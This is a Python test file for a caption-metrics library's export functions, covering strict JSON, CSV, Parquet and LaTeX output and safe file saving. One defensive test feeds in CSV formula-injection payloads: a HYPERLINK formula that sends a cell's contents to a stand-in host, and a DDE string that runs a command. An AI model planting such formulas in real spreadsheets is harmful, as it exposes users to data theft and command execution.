"""Files and frames: every number in full, NaN as null, LaTeX that compiles, folders written whole."""

import csv
import json
import math
import re
from pathlib import Path

import numpy as np
import pyarrow.parquet as pq
import pytest

from captious._core.files import OUTPUT
from captious.errors import InputError
from captious.render import Cell, Column, Document, Group, ItemMetric, Items, Table
from captious.render._cells import format_columns
from captious.render._latex import escape, format_table
from captious.render.exports import dumps, format_csv, get_columns, to_json, write_csv, write_jsonl, write_parquet

NAN = float("nan")
SPECIAL = "\\~^_%&#{}$<>|*[]\x1b\n†τ±"


def strict(text):
    return json.loads(text, parse_constant=pytest.fail)


def test_a_result_is_written_whole_and_not_touched_again(samples, tmp_path):
    sample = samples.everything()
    sample.save(tmp_path / "run")
    assert {path.name for path in (tmp_path / "run").iterdir()} == {
        OUTPUT, "report.html", "report.tex", "report.txt", "scores.csv", "systems.csv", "wide.csv", "ngrams.csv",
    }  # fmt: skip
    before = (tmp_path / "run" / OUTPUT).read_bytes()
    with pytest.raises(InputError, match="already exists"):
        sample.save(tmp_path / "run")
    sample.save(str(tmp_path / "run"), overwrite=True)
    assert (tmp_path / "run" / OUTPUT).read_bytes() == before


def test_a_result_that_fails_to_write_leaves_nothing(samples, tmp_path):
    class Broken(samples.Sample):
        def write_files(self, folder: Path) -> None:
            (folder / "items.jsonl").write_text("half")
            raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        Broken().save(tmp_path / "run")
    assert list(tmp_path.iterdir()) == []


def test_json_is_strict_and_holds_every_digit(samples):
    content = strict(samples.Sample().to_json())
    assert content["tables"]["scores"][0]["value"] == 0.31415926
    assert content["tables"]["scores"][2] == {
        "metric": "SPICE", "value": None, "value_low": None, "value_high": None, "unscored": None,
    }  # fmt: skip
    assert content["notes"] == ["4 items"] and content["signatures"] == ["cider|idf:refs|captious:1"]


def test_data_take_the_place_of_the_tables(samples):
    content = strict(samples.Sample(data={"metrics": [NAN, np.float32(0.5), np.int8(2)], "notes": ["own"]}).to_json())
    assert content["metrics"] == [None, 0.5, 2] and content["notes"] == ["own"] and "tables" not in content


def test_dumps_takes_what_results_hold(tmp_path):
    value = {"path": tmp_path, 3: {float("inf")}, "array": np.array([[1, 2]]), "cell": Cell(NAN), "yes": np.True_}
    content = strict(dumps(value))
    assert content["path"] == str(tmp_path) and content["3"] == [None] and content["array"] == [[1, 2]]
    assert content["cell"]["value"] is None and content["yes"] is True


def test_no_cell_of_a_csv_file_is_a_formula(tmp_path):
    texts = ['=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
    plain = ["a dog = a pet", "-12.5", "+3", "", "'quoted'", "two\nlines"]
    write_csv({"=1+1": [*texts, *plain[:-1], "two\rlines"], "list": [["=1", "b"]] * 11}, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
        head, *rows = csv.reader(file)
    assert head == ["'=1+1", "list"] and {row[1] for row in rows} == {"'=1 | b"}
    assert [row[0] for row in rows] == [*(f"'{text}" for text in texts), *plain]


def test_csv_holds_every_digit_and_an_empty_field_where_nothing_is(samples, tmp_path):
    write_csv(samples.scores(), tmp_path / "scores.csv")
    rows = list(csv.DictReader((tmp_path / "scores.csv").open()))
    assert rows[0] == {
        "metric": "BLEU-4",
        "value": "0.31415926",
        "value_low": "0.3",
        "value_high": "0.33",
        "unscored": "0",
    }
    assert rows[2] == {"metric": "SPICE", "value": "", "value_low": "", "value_high": "", "unscored": ""}


def test_columns_of_one_name_stay_apart_and_scales_stay_out():
    content = get_columns(
        Table("t", "t", [Column("τ-b"), Column("τ b", scale=100), Column("x", key="tau")], [(0.1, 0.2, 3)])
    )
    assert content == {"τ_b": [0.1], "τ_b_2": [0.2], "tau": [3]}


def test_a_frame_by_key(samples):
    sample = samples.everything()
    assert sample.to_pandas()["value"][0] == 0.31415926
    frame = sample.to_pandas("systems")
    assert frame["lic_sd"].tolist()[:2] == [0.5, 0.5] and frame["p"].isna().tolist() == [False, False, True]
    with pytest.raises(InputError, match="did you mean 'systems'"):
        sample.to_pandas("system")


def test_odd_columns_are_written_too(tmp_path):
    values = {"meta": [{}, {"a": 1}], "huge": [2**80, 1], "mixed": ["a", 1], "nan": [NAN, 1.0], "text": [["a"], []]}
    write_parquet(tmp_path / "t.parquet", values)
    content = pq.read_table(tmp_path / "t.parquet").to_pydict()
    assert json.loads(content["meta"][1]) == {"a": 1} and json.loads(content["huge"][0]) == 2**80
    assert content["text"] == [["a"], []] and content["nan"][1] == 1.0
    write_jsonl(tmp_path / "t.jsonl", [{"a": NAN}, {"a": "\ud800"}])
    assert [strict(line) for line in (tmp_path / "t.jsonl").open()] == [{"a": None}, {"a": "?"}]


def assert_compiles(text):
    """What TeX itself would stumble over: specials bare of a backslash, unbalanced braces or dollars, blank lines."""
    body = "\n".join(line for line in text.splitlines() if not line.startswith("%"))
    body = re.sub(r"\\[a-zA-Z]+|\\[&%$#_{}\\]", lambda match: "" if match[0] != r"\\" else match[0], body)
    assert body.count("{") == body.count("}")
    outside = re.sub(r"\$[^$]*\$", "", body)
    assert not re.search(r"[~^_%#$<>|\x00-\x09\x0b-\x1f]", outside)
    assert not re.search(r"\\\\\s*[*\[]", body)  # taken for an argument of the line end
    assert "\n\n" not in text.strip()


def test_latex_of_awkward_names_compiles(samples):
    text = format_table(samples.systems())
    assert r"a\textasciicircum{}b\textbackslash{}\textasciitilde{} & " in text
    assert_compiles(text)
    heads = [SPECIAL, Column("50% & more", level=0.95)]
    awkward = Table("t", SPECIAL, heads, [(character, Cell(-1, -2, 0)) for character in SPECIAL])
    assert_compiles(format_table(awkward))
    assert "[$-$2.0000, 0.0000]" in format_table(awkward)


def test_every_latex_table_has_a_caption_that_says_what_it_shows(samples):
    text = samples.Sample([samples.systems(), samples.wide()]).to_latex()
    assert r"\caption{Systems: captions.json: 4 items. \dag{} differs from the first.}" in text
    assert r"\label{tab:systems}" in text and r"\label{tab:wide}" in text
    assert text.count(r"\begin{table}") == text.count(r"\end{table}") == text.count(r"\caption{") == 2
    assert "Scores are shown" not in text


def test_one_escape_for_every_special_character():
    assert escape(r"\~^_%&#{}$") == (
        r"\textbackslash{}\textasciitilde{}\textasciicircum{}\_\%\&\#\{\}\$"
    )  # fmt: skip
    assert escape("τ-b ± 1\n2") == r"$\tau$-b $\pm$ 1 2"


def test_latex_marks_the_best_and_what_differs(samples):
    text = samples.Sample([samples.systems()]).to_latex()
    assert text.startswith("% captions.json: 4 items\n% 4 items\n% cider|idf:refs|captious:1\n")
    assert r"\textbf{1.1000 $\pm$ 0.0200}$^\dagger$ & \textbf{0.4000}" in text
    assert r"\textless{} 0.001 \\" in text and r"\addlinespace" in text and "-- & -- & -- & --" in text


def test_latex_has_its_own_headings_and_leaves_out_what_it_should():
    columns = ["metric", Column("τ", latex=r"$\tau_b$", level=0.99), Column("unscored", latex=None)]
    text = format_table(Table("t", "", columns, [("BLEU", Cell(0.5, 0.4, 0.6), 3)]))
    assert r"metric & $\tau_b$ & 99\% interval \\" in text and r"BLEU & 0.5000 & [0.4000, 0.6000] \\" in text


def test_a_document_without_a_table_has_empty_latex_and_strict_json():
    document = Document("empty")
    assert strict(to_json(document))["tables"] == {}


def test_mistakes_of_a_room_are_said():
    with pytest.raises(ValueError, match="a row of 1 cells under 2 columns"):
        Table("t", "t", ["a", "b"], [("x",)])
    twice = [Table("t", "t", ["a"], []), Table("t", "t", ["a"], [])]
    with pytest.raises(ValueError, match="share a key"):
        _ = Document("d", sections=twice).tables


def scored():
    columns = ["metric", Column("value", percent=1, level=0.95), Column("items")]
    rows = [("BLEU-4", Cell(0.3919, 0.3811, 0.4), 7), ("words", Cell(812.0, decimals=0, scale=1.0), 7)]
    items = Items(
        ("a",),
        (ItemMetric("bleu", "BLEU-4", range=(0, 1), percent=True), ItemMetric("words", "words")),
        ("s",),
        [[np.array([0.25]), np.array([9.0])]],
        [[("x",)]],
    )
    return Document("d", sections=[Group("g", [Table("t", "t", columns, rows)]), items])


def test_in_percent_scores_alone_are_scaled_and_data_are_not():
    shown = scored().in_percent()
    drawn = format_columns(shown.table("t"))
    assert [one.cells for one in drawn] == [
        ["BLEU-4", "words"], ["39.2", "812"], ["38.1 – 40.0", "—"], ["7", "7"],
    ]  # fmt: skip
    assert "Scores are shown × 100." in shown.notes and not scored().notes
    assert strict(to_json(shown)) == {**strict(to_json(scored())), "notes": list(shown.notes)}
    assert format_csv(shown.table("t")) == format_csv(scored().table("t"))
    items = shown.sections[1]
    assert [column.tolist() for column in items.values[0]] == [[25.0], [9.0]]
    assert items.metrics[0].range == (0, 100) and items.metrics[1].range == (0, math.inf)


@pytest.mark.parametrize("suffix", ["csv", "json", "parquet", "html", "tex", "txt", "CSV"])
def test_a_suffix_saves_one_file_whole(tmp_path, suffix):
    target = tmp_path / f"t.{suffix}"
    scored().save(target)
    assert target.stat().st_size and [path.name for path in tmp_path.iterdir()] == [target.name]
    with pytest.raises(InputError, match="already exists; pass overwrite=True"):
        scored().save(target)
    scored().save(target, overwrite=True, percent=True)
    if suffix in ("html", "tex"):
        assert "39.2" in target.read_text()
    if suffix == "json":
        assert "× 100" not in target.read_text()


def test_a_folder_with_a_suffix_stays_a_folder(tmp_path):
    (tmp_path / "run.json").mkdir()
    scored().save(tmp_path / "run.json")
    assert (tmp_path / "run.json" / "report.html").exists()
